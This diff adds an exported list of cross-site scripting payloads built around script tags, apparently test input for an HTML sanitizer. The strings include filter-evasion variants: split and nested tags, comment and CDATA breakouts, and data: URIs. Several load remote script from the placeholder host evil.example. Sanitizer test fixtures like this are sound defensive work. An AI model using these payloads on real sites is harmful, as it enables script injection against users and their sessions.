@@ -1,0 +1,23 @@
+/** Script elements, whole, hidden, unclosed, or put together by whoever takes something out. */
+export const script = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<p><script/x>alert(1)</script>',
+  '<script type=module>import("https://evil.example/x.js")</script>',
+  '<script src="data:text/javascript,alert(1)"></script>',
+  '<script\n\n>alert(1)</script\n>',
+  '<script>alert(1)',
+  '<<script>alert(1);//<</script>',
+  '<script type=importmap>{"imports":{"preact":"https://evil.example/p.js"}}</script>',
+  '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>',
+  '<script async defer src=https://evil.example/x.js integrity="" crossorigin></script>',
+  '<!-- --!><script>alert(1)</script>-->',
+  '<![CDATA[x]]><script>alert(1)</script>',
+  '<?xml version="1.0"?><script>alert(1)</script>',
+  '<script for=window event=onload>alert(1)</script>',
+  '<script language=vbscript>MsgBox 1</script>',
+  '<title><script>alert(1)</script></title><script>alert(2)</script>',
+  '<textarea></textarea ><script>alert(1)</script>',
+  '<script><!--<script>alert(1)</script>--></script><img src=x onerror=alert(1)>',
+];
